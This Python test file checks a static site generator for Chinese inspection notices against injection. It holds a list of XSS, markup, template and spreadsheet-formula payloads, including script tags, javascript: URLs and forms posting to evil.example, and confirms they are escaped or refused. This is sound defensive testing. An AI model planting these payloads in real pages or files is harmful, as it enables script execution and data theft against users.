"""Injection corpus (issue 7): markup and script payloads in every field, channel and the body.

Free-text fields must come out as text on every page, in every data file and in the search
index; typed fields and raw HTML in the body must be refused with a located diagnostic; and the
body renderer, the second lock, must neutralise the payloads even when validation is bypassed.
Every built file is parsed, and every element, attribute and URL checked against an allow-list.
"""

from __future__ import annotations

import csv
import gzip
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Browser, expect

from generator.commands.check import check
from generator.content.load import markdown
from generator.site import body
from tests.conftest import serve
from tests.helpers import AS_OF, write_tree

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="java&#x09;script:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<a href=" javascript:alert(1)">点我</a>',
    '<a href="vbscript:msgbox(1)">点我</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
    "[点我](javascript:alert(1))",
    "[点我](JAVASCRIPT:alert(1))",
    "[点我](java\tscript:alert(1))",
    "[点我](data:text/html,<script>alert(1)</script>)",
    "![图](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/steal"><input name=p></form>',
    "<style>body{display:none}</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "]]></title><script>alert(1)</script>",
    "{{ 7*7 }}{% if true %}模板{% endif %}",
    "=cmd|' /C calc'!A0",
    "\u2028\u2029</script>",
]
"""One markup, script or formula attack each; ``alert``, ``evil.example`` or ``msgbox`` marks
an executed or loaded payload."""

MARKERS = ("alert(", "evil.example", "msgbox", "calc")

# fmt: off
ELEMENTS = {
    "html", "head", "body", "meta", "title", "link", "script", "noscript", "header", "footer",
    "main", "nav", "article", "section", "aside", "div", "span", "p", "br", "hr", "a", "strong",
    "em", "code", "pre", "blockquote", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead",
    "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6", "address", "time", "form",
    "fieldset", "legend", "label", "input", "textarea", "select", "option", "button", "svg",
    "path", "rect", "img", "mark", "figure", "figcaption", "line", "text", "caption", "details",
    "summary",
}
# fmt: on
"""Elements our templates, Material's base and the Markdown renderer may produce."""

# fmt: off
ATTRIBUTES = {
    "id", "class", "lang", "dir", "title", "role", "hidden", "tabindex", "href", "rel", "src",
    "alt", "type", "name", "content", "charset", "http-equiv", "value", "placeholder", "for",
    "action", "method", "novalidate", "autocomplete", "maxlength", "required", "checked", "open",
    "disabled",
    "rows", "scope", "datetime", "width", "height", "x", "y", "d", "viewbox", "xmlns", "preserveaspectratio",
    "focusable", "x1", "y1", "x2", "y2", "text-anchor",
}
# fmt: on
URL_ATTRIBUTES = {"href", "src", "action"}
SCHEMES = {"", "http", "https", "mailto", "tel"}
META = [{"charset"}, {"http-equiv", "content"}, {"name", "content"}]
META_NAMES = {"generator", "referrer", "viewport", "description", "author"}


def yaml_text(value: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(value)


def payload_notice(n: int, payload: str) -> str:
    """A valid notice with ``payload`` in every free-text field, channel and the body."""
    q = yaml_text
    return f"""---
title: {q("通报" + str(n) + payload)}
issuer: {q("单位" + str(n) + payload)}
published: 2024-0{1 + n % 9}-15
kind: 整改进展
summary: {q("摘要" + payload)}
inspection:
  type: 巡察
  team: {q("第一巡察组" + payload)}
  round: {q("第三轮" + payload)}
  topic: {q("专项" + payload)}
  period: [2023-03-01, 2023-04-30]
  feedback: 2023-06-01
contacts:
  phone: [{{number: 0510-12345678, hours: {q("工作日" + payload)}, label: {q("值班" + payload)}}}]
  postal: [{{address: {q("某路8号" + payload)}, recipient: {q("巡察办" + payload)}, postcode: "010010"}}]
  email: feedback@example.org
  web: https://feedback.example.org/form?a=1&b=2
  until: 2027-01-31
---

开头说明：`{payload}`

## 二、整改落实情况

### （一）问题类别

#### 1.关于“第一个问题”的整改

```item
status: 推进中
deadline: 2025-06-30
owner: [{q("责任单位" + payload)}]
problem: {q("问题" + payload)}
```

进展：`{payload}`

```text
{payload}
```
"""


def test_the_corpus_is_large_and_every_payload_was_built(injected_site):
    assert len(PAYLOADS) >= 30
    built = sorted(p.name for p in (injected_site / "notices").iterdir())
    assert built == [f"p{n:02d}" for n in range(len(PAYLOADS))]


def url_ok(url: str) -> bool:
    cleaned = "".join(c for c in url if c not in "\t\n\r").strip()
    return urlsplit(cleaned).scheme.lower() in SCHEMES


def allow_list_violations(html: str, live: bool = False) -> list[str]:
    """Everything in ``html`` outside the allow-list, as readable strings. ``live``: a page's
    DOM after its scripts ran, where styles set through the CSSOM show as style attributes."""
    doc = BeautifulSoup(html, "html.parser")
    found = []
    for el in doc.find_all(True):
        if el.name not in ELEMENTS:
            found.append(f"element <{el.name}>")
        for attr, value in el.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if attr.startswith("on"):
                found.append(f"event handler {attr}")
            elif attr == "style" and live:
                if any(m in value for m in MARKERS) or "url(" in value:
                    found.append(f"style {value!r}")
            elif attr not in ATTRIBUTES and not attr.startswith(("data-", "aria-")):
                found.append(f"attribute {attr} on <{el.name}>")
            if attr in URL_ATTRIBUTES and not url_ok(value):
                found.append(f"URL {value!r} in {attr}")
        if el.name == "meta":
            keys = set(el.attrs)
            if keys not in META:
                found.append(f"meta {el.attrs}")
            elif "http-equiv" in keys and el["http-equiv"] != "Content-Security-Policy":
                found.append(f"meta http-equiv {el['http-equiv']}")
            elif "name" in keys and el["name"] not in META_NAMES:
                found.append(f"meta name {el['name']}")
        if el.name == "link" and set(el.get("rel", [])) - {
            "stylesheet",
            "icon",
            "alternate",
            "canonical",
            "prev",
            "next",
            "modulepreload",  # the search page's own scripts (the CSP's script-src holds them too)
        }:
            found.append(f"link rel {el['rel']}")
        if el.name in ("script", "link") and el.get("src", el.get("href", "/")).startswith("//"):
            found.append(f"external {el.name}")
        inline = el.name == "script" and not el.get("src")
        if inline and any(m in el.get_text() for m in MARKERS):
            found.append("payload inside an inline script")
        if el.name == "title" and el.find(True):
            found.append("element inside <title>")
    return found


def test_no_page_has_an_element_attribute_or_url_outside_the_allow_list(injected_site):
    pages = sorted(injected_site.rglob("*.html"))
    assert len(pages) > len(PAYLOADS)
    violations = {
        str(p.relative_to(injected_site)): v
        for p in pages
        if (v := allow_list_violations(p.read_text(encoding="utf-8")))
    }
    assert violations == {}


def collapse(text: str) -> str:
    """Text as a browser shows it: runs of HTML white space become one space."""
    return re.sub(r"[ \t\n\f\r]+", " ", text)


def test_every_payload_is_shown_as_the_text_written(injected_site):
    """Escaping is not erasing: the reader sees exactly what the notice says."""
    for n, payload in enumerate(PAYLOADS):
        page = injected_site / f"notices/p{n:02d}/index.html"
        doc = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        shown = collapse(payload)
        assert collapse(doc.h1.get_text()) == f"通报{n}{shown}"
        assert collapse(doc.title.get_text()).startswith(f"通报{n}{shown} - ")
        text = collapse(doc.get_text())
        for field in ("单位", "第一巡察组", "第三轮", "巡察办", "某路8号", "责任单位", "问题"):
            assert f"{field}{shown}" in text, (n, field)
        codes = [c.get_text() for c in doc.select("article code")]
        assert payload in codes and payload + "\n" in codes, n


def test_data_files_keep_payloads_as_data(injected_site):
    notices = json.loads((injected_site / "data/notices.json").read_text(encoding="utf-8"))
    titles = {n["title"] for n in notices["notices"]}
    assert titles == {f"通报{n}{p}" for n, p in enumerate(PAYLOADS)}
    web = {n["contacts"]["web"] for n in notices["notices"]}
    assert web == {"https://feedback.example.org/form?a=1&b=2"}
    with (injected_site / "data/items.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert len(rows) == len(PAYLOADS) + 1
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    feed = ET.parse(injected_site / "feed.xml").getroot()
    links = [el.get("href") for el in feed.iter() if el.tag.endswith("link")]
    assert links and all(urlsplit(h).scheme == "https" for h in links)
    titles = [el.text for el in feed.iter() if el.tag.endswith("title")]
    assert f"通报3{PAYLOADS[3]}" in titles


def fragments(site: Path) -> list[dict]:
    out = []
    for path in sorted((site / "pagefind/fragment").iterdir()):
        data = gzip.decompress(path.read_bytes())
        assert data.startswith(b"pagefind_dcd")
        out.append(json.loads(data[len(b"pagefind_dcd") :]))
    return out


def test_search_records_are_text_with_relative_urls(injected_site):
    records = fragments(injected_site)
    assert len(records) == len(PAYLOADS)
    for record in records:
        assert record["url"].startswith("/notices/p") and url_ok(record["url"])
        assert "image" not in record["meta"]
        for anchor in record["anchors"]:
            assert anchor["id"].startswith("item-")
    metas = {r["meta"]["title"] for r in records}
    assert f"通报0{PAYLOADS[0]}" in metas


TYPED_NOTICE = """---
id: @id@
title: 标题
issuer: 单位
published: @published@
kind: @kind@
inspection:
  type: @inspection.type@
  team: 组
  period: [@inspection.period[1]@, 2023-04-30]
  feedback: @inspection.feedback@
contacts:
  phone: [{number: @contacts.phone[1].number@}]
  postal: [{address: 某路, postcode: @contacts.postal[1].postcode@}]
  email: [@contacts.email[1]@]
  web: @contacts.web@
  until: @contacts.until@
---

## 二、整改落实情况

#### 1.关于“问题”的整改

```item
status: @items[1].status@
deadline: @items[1].deadline@
completed: @items[1].completed@
```
"""
"""Every field with a type other than free text, as a placeholder named after its diagnostic."""

VALID = {
    "id": "p1",
    "published": "2024-01-15",
    "kind": "整改进展",
    "inspection.type": "巡察",
    "inspection.period[1]": "2023-03-01",
    "inspection.feedback": "2023-06-01",
    "contacts.phone[1].number": "0510-12345678",
    "contacts.postal[1].postcode": '"010010"',
    "contacts.email[1]": "a@example.org",
    "contacts.web": "https://feedback.example.org/form",
    "contacts.until": "2027-01-31",
    "items[1].status": "已完成",
    "items[1].deadline": "2024-06-30",
    "items[1].completed": "2024-05-30",
}


def typed_notice(**values: str) -> str:
    text = TYPED_NOTICE
    for field, value in {**VALID, **values}.items():
        text = text.replace(f"@{field}@", value)
    return text


def test_the_typed_template_is_valid(tmp_path):
    path = write_tree(tmp_path, {"p1.md": typed_notice()}) / "p1.md"
    portal, problems = check([path], AS_OF)
    assert portal is not None and problems == []


@pytest.mark.parametrize("field", sorted(VALID))
def test_typed_fields_refuse_every_payload_with_a_located_error(tmp_path, field):
    for payload in PAYLOADS:
        text = typed_notice(**{field: yaml_text(payload)})
        path = write_tree(tmp_path, {"p1.md": text}) / "p1.md"
        portal, problems = check([path], AS_OF)
        assert portal is None, (field, payload)
        line = next(n for n, ln in enumerate(text.split("\n"), 1) if yaml_text(payload) in ln)
        located = [(d.field, d.line) for d in problems if d.severity.name == "ERROR"]
        assert (field, line) in located, (field, payload, problems)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_in_the_body_is_refused_where_it_is(tmp_path, payload):
    """What plain Markdown would turn into markup is an error on its line; the rest is text."""
    text = payload_notice(0, "").replace("进展：``", f"进展：{payload}")
    path = write_tree(tmp_path, {"c.md": text}) / "c.md"
    _, problems = check([path], AS_OF)
    line = text.split("\n").index(f"进展：{payload}") + 1
    produced = markdown().render(f"进展：{payload}").removeprefix("<p>").removesuffix("</p>\n")
    if "<" in produced:  # plain Markdown let markup through
        assert problems and {(d.line, d.severity.name) for d in problems} == {(line, "ERROR")}
    else:
        assert problems == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_renderer_neutralises_payloads_without_validation(payload):
    """The second lock: raw HTML becomes text and unsafe URLs lose their target."""
    html = body._MD.render(f"进展：{payload}\n\n{payload}\n", {"items": {}, "badge": str})
    assert allow_list_violations(html) == []
    assert not any(img.get("src") for img in BeautifulSoup(html, "html.parser").find_all("img"))


def searched(page) -> None:
    """Wait until the search page shows the results of its latest run (``search-page.js``
    marks the list busy from the moment a run is asked for)."""
    done = page.locator("[data-search-results][data-search-state='done']")
    expect(done).to_have_count(1, timeout=20_000)
    expect(page.locator("[data-search-status]")).to_contain_text("找到")


def test_search_and_feedback_run_no_payload_in_a_browser(browser: Browser, injected_site):
    """Search results and the feedback panel build their DOM from text only."""
    context = browser.new_context(locale="zh-CN")
    context.add_init_script(
        "window.__fired = [];"
        "for (const f of ['alert', 'confirm', 'prompt', 'msgbox'])"
        "  window[f] = (...a) => window.__fired.push([f, ...a]);"
    )
    page = context.new_page()
    external: list[str] = []
    page.on("request", lambda r: urlsplit(r.url).hostname != "127.0.0.1" and external.append(r.url))
    with serve(injected_site) as base:
        for query in ("巡察办", "script", "第一个问题"):
            page.goto(f"{base}search/?q={query}")
            searched(page)
            assert page.locator("[data-search-results] .portal-result").count() > 0, query
            assert allow_list_violations(page.content(), live=True) == []
        page.goto(f"{base}notices/p02/")
        page.locator("a[data-feedback-item='1']").click()
        page.locator("#fb-comment").fill("意见")
        assert allow_list_violations(page.content(), live=True) == []
        page.goto(f"{base}ledger/")
        assert allow_list_violations(page.content(), live=True) == []
        assert page.evaluate("window.__fired") == []
    context.close()
    assert external == []
